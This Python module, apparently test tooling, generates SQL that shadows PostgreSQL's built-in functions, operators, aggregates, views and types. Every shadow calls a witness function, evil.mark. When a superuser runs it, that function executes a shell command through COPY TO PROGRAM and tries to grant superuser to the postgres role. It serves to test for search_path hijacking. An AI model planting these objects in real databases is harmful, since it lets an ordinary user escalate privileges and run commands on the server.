"""What a master user can define to be called in place of PostgreSQL's own, and the witness that all of it calls.

`evil.mark(LABEL)` tells who runs it. Run by an internal user it leaves a file of that name through COPY TO PROGRAM, which
works on standbys and in copies of the past too, and makes the master user a superuser where it can.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

_MARK = """\
create function evil.mark(label text) returns boolean language plpgsql set search_path = pg_catalog, pg_temp as $mark$
begin
  if current_user in (select rolname from pg_roles where rolsuper or rolname ~ '^rds') then
    execute format('copy (select %L) to program %L', label || ' as ' || current_user, 'cat > MARKS/' || md5(label));
    begin
      execute 'alter role postgres superuser';
    exception when others then null;
    end;
  end if;
  return true;
exception when others then
  return true;
end
$mark$"""

_FUNCTIONS = [
    ("pg_is_in_recovery", "", "boolean"),
    ("pg_last_wal_replay_lsn", "", "pg_lsn"),
    ("pg_last_wal_receive_lsn", "", "pg_lsn"),
    ("pg_current_wal_lsn", "", "pg_lsn"),
    ("pg_current_wal_flush_lsn", "", "pg_lsn"),
    ("pg_current_snapshot", "", "pg_snapshot"),
    ("pg_get_wal_replay_pause_state", "", "text"),
    ("pg_backend_pid", "", "integer"),
    ("now", "", "timestamptz"),
    ("clock_timestamp", "", "timestamptz"),
    ("current_setting", "text", "text"),
    ("pg_walfile_name", "pg_lsn", "text"),
    ("pg_database_size", "oid", "bigint"),
    ("pg_relation_filenode", "regclass", "oid"),
    ("pg_snapshot_xmax", "pg_snapshot", "xid8"),
    ("pg_cancel_backend", "integer", "boolean"),
    ("pg_wal_lsn_diff", "pg_lsn, pg_lsn", "numeric"),
    ("pg_terminate_backend", "integer, bigint", "boolean"),
    ("substr", "text, integer, integer", "text"),
    ("pg_logical_emit_message", "boolean, text, text, boolean", "pg_lsn"),
]
_OPERATORS = [
    ("=", "text", "text", "boolean"),
    ("=", "name", "name", "boolean"),
    ("=", "name", "text", "boolean"),
    ("=", "oid", "oid", "boolean"),
    ("=", "integer", "integer", "boolean"),
    ("=", '"char"', '"char"', "boolean"),
    ("<>", "text", "text", "boolean"),
    ("<>", "name", "text", "boolean"),
    ("<>", "name", "name", "boolean"),
    ("<>", "integer", "integer", "boolean"),
    (">=", "pg_lsn", "pg_lsn", "boolean"),
    ("*", "numeric", "numeric", "numeric"),
    ("||", "text", "text", "text"),
]
_RELATIONS = [
    "pg_database", "pg_stat_activity", "pg_stat_replication", "pg_stat_wal_receiver", "pg_class", "pg_index", "pg_roles",
    "pg_locks", "pg_settings", "pg_stat_database", "pg_namespace", "pg_auth_members",
]  # fmt: skip
_TYPES = ["pg_lsn", "regclass", "text", "timestamptz", "oid", "name"]


def witness(marks: Path) -> Iterator[str]:
    """The schema `evil` with the witness, whose files come into `marks`."""
    yield "create schema if not exists evil"
    yield "grant usage on schema evil to public"
    yield _MARK.replace("MARKS", str(marks)).replace("create function", "create or replace function")


def same_names(schema: str) -> Iterator[str]:
    """Functions, aggregates, operators, views and types as PostgreSQL has them, for a schema that is searched before."""
    for name, arguments, result in _FUNCTIONS:
        yield _function(schema, name, arguments, result)
    for number, (name, left, right, result) in enumerate(_OPERATORS):
        yield _operator(schema, number, name, left, right, result)
    for name in _RELATIONS:
        yield f"create view {schema}.{name} as select * from pg_catalog.{name} where evil.mark('view {name}')"
    yield (
        f"create function {schema}.pg_control_checkpoint(out checkpoint_lsn pg_lsn, out redo_lsn pg_lsn, out timeline_id"
        " integer) language sql as $$ select evil.mark('pg_control_checkpoint');"
        " select checkpoint_lsn, redo_lsn, timeline_id from pg_catalog.pg_control_checkpoint() $$"
    )
    yield (
        f"create function {schema}.add(numeric, numeric) returns numeric language sql as"
        " $$ select evil.mark('sum'); select $1 operator(pg_catalog.+) $2 $$"
    )
    yield f"create aggregate {schema}.sum(numeric) (sfunc = {schema}.add, stype = numeric, initcond = '0')"
    yield (
        f"create function {schema}.one_more(bigint) returns bigint language sql as"
        " $$ select evil.mark('count'); select $1 operator(pg_catalog.+) 1::bigint $$"
    )
    yield f"create aggregate {schema}.count(*) (sfunc = {schema}.one_more, stype = bigint, initcond = '0')"
    for name in _TYPES:
        yield f"create domain {schema}.{name} as pg_catalog.{name} check (evil.mark('type {name}'))"


def better_matches() -> Iterator[str]:
    """What PostgreSQL prefers to its own without any setting, because the types of the arguments fit better."""
    yield (
        "create function public.concat_ws(text, integer, pg_lsn, pg_lsn) returns text language sql as"
        " $$ select evil.mark('concat_ws'); select pg_catalog.concat_ws($1, $2, $3, $4) $$"
    )
    yield (
        "create function public.times(numeric, integer) returns numeric language sql as"
        " $$ select evil.mark('*'); select $1 operator(pg_catalog.*) $2::numeric $$"
    )
    yield "create operator public.* (leftarg = numeric, rightarg = integer, function = public.times)"
    yield (
        "create function public.pg_promote(wait boolean) returns boolean language sql as"
        " $$ select evil.mark('pg_promote'); select pg_catalog.pg_promote(wait) $$"
    )
    yield _function("public", "pg_terminate_backend", "integer", "boolean")
    yield _function("public", "pg_is_in_recovery", "", "boolean")
    yield _function("public", "current_setting", "text", "text")


def _function(schema: str, name: str, arguments: str, result: str) -> str:
    given = ", ".join(f"${number + 1}" for number in range(len(arguments.split(",")) if arguments else 0))
    return (
        f"create function {schema}.{name}({arguments}) returns {result} language sql as"
        f" $$ select evil.mark('function {name}'); select pg_catalog.{name}({given}) $$"
    )


def _operator(schema: str, number: int, name: str, left: str, right: str, result: str) -> str:
    """A function and the operator that calls it, as one statement."""
    return (
        f"do $do$ begin create function {schema}.operator_{number}({left}, {right}) returns {result} language sql as"
        f" $$ select evil.mark('operator {name}'); select $1 operator(pg_catalog.{name}) $2 $$;"
        f" create operator {schema}.{name} (leftarg = {left}, rightarg = {right},"
        f" function = {schema}.operator_{number}); end $do$"
    )
